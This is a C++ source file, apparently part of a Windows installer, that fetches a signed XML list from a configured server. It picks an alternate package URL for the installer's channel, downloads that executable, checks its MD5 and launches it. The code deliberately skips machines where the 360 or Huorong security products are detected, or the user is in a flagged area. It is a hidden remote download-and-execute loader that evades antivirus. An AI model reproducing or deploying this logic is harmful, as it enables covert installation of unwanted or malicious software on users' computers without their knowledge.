// The list, after Base64 and RSA unwrapping, is 8-bit XML:
//
//   list      = <root> item condition </root>      root name compared without regard to case
//   item      = <item> tryno* </item>               required; the first one counts
//   tryno     = <tryno id="CID_TID" url=".." md5=".." condition="N"/>
//   condition = <condition> leaf* </condition>      required; the first one counts
//   leaf      = <leaf id="N" s360="0|1" hr="0|1" area="0|1"/>
//
// Other elements are ignored. A repeated tryno id or leaf id keeps its first occurrence;
// a missing or non-numeric integer attribute reads as 0.
#include "main/alt_package_redirect.h"

#include <windows.h>

#include <tinyxml.h>

#include <map>

#include "build_settings.h"
#include "common/codec/signed_transport.h"
#include "common/win/ansi_text.h"
#include "common/win/file_facts.h"
#include "common/win/scoped_handle.h"
#include "download/download_file.h"
#include "download/package_verify.h"
#include "download/user_launch.h"
#include "main/install_log.h"
#include "main/run_settings.h"
#include "probe/product_survey.h"

namespace kbase {
namespace {

struct AltPackageEntry {
  std::string url;
  std::string md5;
  int condition = 0;
};

struct AltPackageRule {
  int s360 = 0;
  int hr = 0;
  int area = 0;
};

struct AltPackageList {
  std::map<std::string, AltPackageEntry> entries;
  std::map<int, AltPackageRule> rules;
};


std::string TextAttribute(const TiXmlElement& element, const char* name) {
  const char* value = element.Attribute(name);
  return value != nullptr ? value : "";
}

int IntAttribute(const TiXmlElement& element, const char* name) {
  int value = 0;
  element.Attribute(name, &value);  // leaves 0 when absent or not a number
  return value;
}

bool EqualsNoCase(const std::string& text, const char* expected) {
  size_t i = 0;
  for (; i < text.size() && expected[i] != '\0'; ++i) {
    auto lower = [](char c) { return (c >= 'A' && c <= 'Z') ? static_cast<char>(c + 32) : c; };
    if (lower(text[i]) != lower(expected[i])) return false;
  }
  return i == text.size() && expected[i] == '\0';
}

bool ParseAltPackageList(const std::string& text, AltPackageList* list) {
  TiXmlDocument document;
  document.Parse(text.c_str(), nullptr, TIXML_ENCODING_LEGACY);
  const TiXmlElement* root = document.RootElement();
  if (document.Error() || root == nullptr || !EqualsNoCase(root->ValueStr(), "root")) {
    return false;
  }
  const TiXmlElement* item = root->FirstChildElement("item");
  const TiXmlElement* condition = root->FirstChildElement("condition");
  if (item == nullptr || condition == nullptr) return false;

  for (const TiXmlElement* tryno = item->FirstChildElement("tryno"); tryno != nullptr;
       tryno = tryno->NextSiblingElement("tryno")) {
    AltPackageEntry entry;
    entry.url = TextAttribute(*tryno, "url");
    entry.md5 = TextAttribute(*tryno, "md5");
    entry.condition = IntAttribute(*tryno, "condition");
    list->entries.emplace(TextAttribute(*tryno, "id"), entry);  // the first one stays
  }
  for (const TiXmlElement* leaf = condition->FirstChildElement("leaf"); leaf != nullptr;
       leaf = leaf->NextSiblingElement("leaf")) {
    AltPackageRule rule;
    rule.s360 = IntAttribute(*leaf, "s360");
    rule.hr = IntAttribute(*leaf, "hr");
    rule.area = IntAttribute(*leaf, "area");
    list->rules.emplace(IntAttribute(*leaf, "id"), rule);
  }
  return true;
}

// The last segment of a URL: after its last "/" or "\", empty when it ends in one.
std::string UrlFileName(const std::string& url) {
  const size_t separator = url.find_last_of("/\\");
  return separator == std::string::npos ? url : url.substr(separator + 1);
}

// The folder holding `folder`, with its trailing backslash; empty when there is none.
std::wstring ParentFolder(std::wstring folder) {
  while (!folder.empty() && folder.back() == L'\\') folder.pop_back();
  const size_t separator = folder.find_last_of(L'\\');
  return separator == std::wstring::npos ? std::wstring() : folder.substr(0, separator + 1);
}

}  // namespace

int RunAltPackageRedirect(const std::wstring& install_res_folder, const std::string& channel_key) {
  if (!FolderExists(install_res_folder)) return 0;
  const std::wstring list_path = install_res_folder + L"\\" + kAltPackageListFile;
  const std::wstring list_url =
      FromAnsi(std::string("http://") + kConfigHost + kAltPackageListPath);
  int error = 0;
  int result = DownloadToFile(list_url, list_path, &error, nullptr, kAltPackageTimeoutSeconds);
  if (result != kDownloadOk) {
    KLog("AltPackage -- list download failed, result = %d, error = %d", result, error);
    return 0;
  }

  std::string body;
  if (!ReadFileBytes(list_path, kAltPackageListMaxBytes, &body)) {
    KLog("AltPackage -- list unreadable");
    return 0;
  }
  RsaPublicKey key;
  std::string text;
  if (ParseRsaPublicKey(kRsaPublicKeyBlob, sizeof(kRsaPublicKeyBlob), &key)) {
    text = DecodeSignedTransport(body, key);
  }
  AltPackageList list;
  if (text.empty() || !ParseAltPackageList(text, &list)) {
    KLog("AltPackage -- list rejected, %d bytes", static_cast<int>(body.size()));
    return 0;
  }

  const auto found = list.entries.find(channel_key);
  if (found == list.entries.end() || found->second.url.empty() || found->second.md5.empty()) {
    KLog("AltPackage -- no package for %s", channel_key.c_str());
    return 0;
  }
  const AltPackageEntry& entry = found->second;
  AltPackageRule rule;
  const auto rule_found = list.rules.find(entry.condition);
  if (rule_found != list.rules.end()) rule = rule_found->second;

  if (rule.s360 == 1 && Is360Present()) {
    KLog("AltPackage -- excluded: 360 present");
    return 0;
  }
  if (rule.hr == 1 && IsHuorongPresent()) {
    KLog("AltPackage -- excluded: Huorong present");
    return 0;
  }
  if (RunSettings().in_area && rule.area == 1) {
    KLog("AltPackage -- excluded: in area");
    return 0;
  }

  const std::wstring working_folder = ParentFolder(install_res_folder);
  if (working_folder.empty()) return 0;
  // A URL ending in a separator names the working folder itself, which cannot be
  // written as a file: the download fails.
  const std::wstring package_path = working_folder + FromAnsi(UrlFileName(entry.url));
  result = DownloadToFile(FromAnsi(entry.url), package_path, &error, nullptr,
                          kAltPackageTimeoutSeconds);
  if (result != kDownloadOk) {
    KLog("AltPackage -- package download failed, result = %d, error = %d", result, error);
    return 0;
  }
  if (!VerifyPackageMd5(FromAnsi(entry.md5), package_path)) {
    KLog("AltPackage -- package digest mismatch");
    return 0;
  }
  const int started = LaunchProcess(1, package_path, L"", 0);
  KLog("AltPackage -- started %ws, result = %d", package_path.c_str(), started);
  return 1;
}

}  // namespace kbase
